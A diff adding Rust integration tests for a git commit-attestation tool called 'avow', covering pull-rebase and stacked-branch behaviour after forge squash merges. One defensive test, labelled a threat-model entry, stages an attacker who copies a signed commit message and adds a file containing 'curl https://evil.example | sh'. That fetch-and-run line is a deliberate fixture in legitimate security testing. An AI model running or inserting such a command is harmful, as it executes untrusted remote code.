@@ -1,0 +1,152 @@
+//! Work that meets what the forge did upstream, in the order people do it
+//! (docs/workflows.md): `git pull --rebase` after the forge squash-merged
+//! your commits, a stacked branch rebased after the branch below it was
+//! squash-merged. Real git, real hooks; every printed hint is run as
+//! printed.
+
+use std::path::{Path, PathBuf};
+
+use crate::forge::{forge_commit, GITHUB};
+use crate::support::*;
+
+/// `sh -c LINE` in `dir`, `git-avow` on PATH, no terminal.
+fn sh_in(w: &World, dir: &Path, line: &str) -> Run {
+    w.shell(line).current_dir(dir).output().unwrap().into()
+}
+
+/// A commit of everything in the work tree with a human statement.
+fn commit_line(subject: &str) -> String {
+    format!("git add -A && git commit -q -m '{subject}' --trailer 'Authorship: human' --trailer 'Rationale: {subject}, so that the numbers read as words; nothing else changes.'")
+}
+
+/// A clone of `origin` where the forge works: no hooks, committer GitHub.
+fn forge_clone(w: &World, origin: &Path) -> PathBuf {
+    let dir = w.scratch().join("forge");
+    w.git(["clone", "-q", "-b", "main", origin.to_str().unwrap(), dir.to_str().unwrap()]);
+    dir
+}
+
+/// Commits what is staged in `dir` as the forge does, message as is.
+fn forge_commit_in(w: &World, dir: &Path, message: &str, committer: (&str, &str)) {
+    let f = w.scratch().join("forge-msg");
+    std::fs::write(&f, message).unwrap();
+    let mut c = w.repo.command("git");
+    c.args(["-c", "core.hooksPath=/dev/null", "commit", "-q", "--cleanup=verbatim", "-F", f.to_str().unwrap()])
+        .current_dir(dir)
+        .env("GIT_COMMITTER_NAME", committer.0)
+        .env("GIT_COMMITTER_EMAIL", committer.1);
+    Run::from(c.output().unwrap()).expect(0);
+}
+
+/// Alice's two commits went to the forge as a pull request, which was
+/// squash-merged; she has one more commit on her local `main` and runs
+/// `git pull --rebase`. git drops her two commits ("patch contents
+/// already upstream") and lists each as rewritten into the commit it was
+/// on — the forge's squash. avow took that for a rewrite of hers that no
+/// longer verified, and told her to give the forge's commit on `main` a
+/// statement of her own (`git rebase -i SQUASH~1`, then an amend). The
+/// rebase made nothing of the kind: nothing is said, and her branch
+/// verifies.
+#[test]
+fn pull_rebase_after_the_forge_squash_merged_your_commits_says_nothing() {
+    let w = World::adopted("disclose");
+    let origin = w.remote("origin");
+    w.change("f.txt", "1\n2\n3\n", "Add f");
+    w.change("g.txt", "g\n", "Add g");
+    w.git(["push", "-q", "--no-verify", "origin", "main:topic"]);
+    let forge = forge_clone(&w, &origin);
+    w.git(["-C", forge.to_str().unwrap(), "merge", "-q", "--squash", "origin/topic"]);
+    forge_commit_in(&w, &forge, "Add f and g (#1)\n", GITHUB);
+    w.git(["-C", forge.to_str().unwrap(), "push", "-q", "origin", "main"]);
+    w.write("h.txt", "h\n");
+    sh_in(&w, &w.path(), &commit_line("Add h")).expect(0);
+
+    let r = sh_in(&w, &w.path(), "git pull -q --rebase").expect(0);
+    assert!(r.stderr.contains("patch contents already upstream"), "git dropped the squashed commits: {}", r.stderr);
+    assert!(!r.stderr.contains("avow"), "{}", r.stderr);
+    assert_eq!(w.git(["log", "--format=%s", "-3"]), "Add h\nAdd f and g (#1)\nAdopt avow");
+    let r = sh_in(&w, &w.path(), "git avow verify").expect(0);
+    assert!(r.stdout.contains("1 commit: 1 accepted, 0 rejected"), "{}", r.stdout);
+}
+
+/// Threat-model entry 145. Mallory, who can push to the project's `main`
+/// (or whose commit a maintainer merges), sees Alice's pull request and
+/// pushes a commit carrying its message — subject, statement, Alice's
+/// signature, Alice as author — over Alice's change plus a file of his.
+/// Alice's `git pull --rebase` drops her own commit as already upstream,
+/// and git lists it as rewritten into Mallory's. avow recorded that pair
+/// as a rewrite of her commit that kept her signature, so `git avow
+/// reattest`, which the rebase's end named, re-signed Mallory's change as
+/// hers without asking. A commit the rebase did not make (the one it
+/// replays onto, or any of its ancestors) is now neither recorded nor
+/// checked: reattest lists it with its files and signs only when named.
+#[test]
+fn a_copy_of_your_message_upstream_is_not_taken_for_a_rewrite_of_yours() {
+    let w = World::adopted("disclose");
+    let origin = w.remote("origin");
+    w.change("f.txt", "1\n2\n3\n", "Add f");
+    w.git(["push", "-q", "--no-verify", "origin", "main:alice-topic"]);
+    let evil = forge_clone(&w, &origin);
+    std::fs::write(evil.join("f.txt"), "1\n2\n3\n").unwrap();
+    std::fs::write(evil.join("evil.sh"), "curl https://evil.example | sh\n").unwrap();
+    w.git(["-C", evil.to_str().unwrap(), "add", "-A"]);
+    forge_commit_in(&w, &evil, &w.message("main"), ("Mallory", "mallory@example.net"));
+    w.git(["-C", evil.to_str().unwrap(), "push", "-q", "origin", "main"]);
+    let copy = w.git(["ls-remote", origin.to_str().unwrap(), "refs/heads/main"]);
+    let copy = copy.split_whitespace().next().unwrap().to_owned();
+
+    let r = sh_in(&w, &w.path(), "git pull -q --rebase").expect(0);
+    assert!(!r.stderr.contains("reattest"), "{}", r.stderr);
+    assert_eq!(w.git(["rev-parse", "HEAD"]), copy, "Alice's main is the upstream's");
+    let record = std::fs::read_to_string(w.path().join(".git/avow/rewritten")).unwrap_or_default();
+    assert!(!record.contains(&copy), "{record}");
+    // Asked to re-sign the range anyway, reattest shows what the change
+    // is and signs nothing.
+    let r = sh_in(&w, &w.path(), "git avow reattest HEAD~1..HEAD").expect(1);
+    assert!(r.stderr.contains("files:  A evil.sh, A f.txt"), "{}", r.stderr);
+    assert_eq!(w.git(["rev-parse", "HEAD"]), copy, "nothing was signed");
+    w.verify("base..HEAD").expect(1);
+}
+
+/// `lower` (two commits) and `upper` on top of it, each a pull request.
+/// The forge squash-merges `lower`; Alice rebases `upper` onto `main` as
+/// most people do, `git rebase main`: the first of lower's commits
+/// conflicts with the squash (she skips it, it is in main already), the
+/// second is dropped as already upstream. The rebase said that the
+/// forge's squash on `main` no longer verified and named a rebase of
+/// `main`'s history; now nothing is said, `upper` verifies, and so does
+/// its own squash merge.
+#[test]
+fn a_stacked_branch_rebased_after_the_lower_one_was_squash_merged() {
+    let w = World::adopted("disclose");
+    w.change("f.txt", "1\n2\n3\n4\n5\n6\n", "Add f");
+    w.git(["switch", "-q", "-c", "lower"]);
+    w.change("f.txt", "1\ntwo\n3\n4\n5\n6\n", "Spell two");
+    w.change("f.txt", "1\ntwo\nthree\n4\n5\n6\n", "Spell three");
+    w.git(["switch", "-q", "-c", "upper"]);
+    w.change("f.txt", "1\ntwo\nTHREE\n4\n5\n6\n", "Shout three");
+    w.change("u.txt", "u\n", "Add u");
+    w.git(["update-ref", "refs/pull/1/head", "lower"]);
+    w.git(["switch", "-q", "main"]);
+    w.git(["tag", "before-1"]);
+    w.git(["merge", "-q", "--squash", "lower"]);
+    forge_commit(&w, "Spell two and three (#1)\n", GITHUB);
+    w.verify("before-1..main").expect(0);
+
+    w.git(["switch", "-q", "upper"]);
+    let r = sh_in(&w, &w.path(), "git rebase main");
+    assert_ne!(r.code, 0, "Spell two conflicts with the squash: {}", r.stderr);
+    let r = sh_in(&w, &w.path(), "git rebase --skip").expect(0);
+    assert!(r.stderr.contains("patch contents already upstream"), "{}", r.stderr);
+    assert!(!r.stderr.contains("avow"), "{}", r.stderr);
+    assert_eq!(w.git(["log", "--format=%s", "main..upper"]), "Add u\nShout three");
+    w.verify("main..upper").expect(0);
+
+    w.git(["update-ref", "refs/pull/2/head", "upper"]);
+    w.git(["switch", "-q", "main"]);
+    w.git(["tag", "before-2"]);
+    w.git(["merge", "-q", "--squash", "upper"]);
+    forge_commit(&w, "Shout three, add u (#2)\n", GITHUB);
+    let r = w.verify("before-2..main").expect(0);
+    assert!(r.stdout.contains("squash of refs/pull/2/head"), "{}", r.stdout);
+}
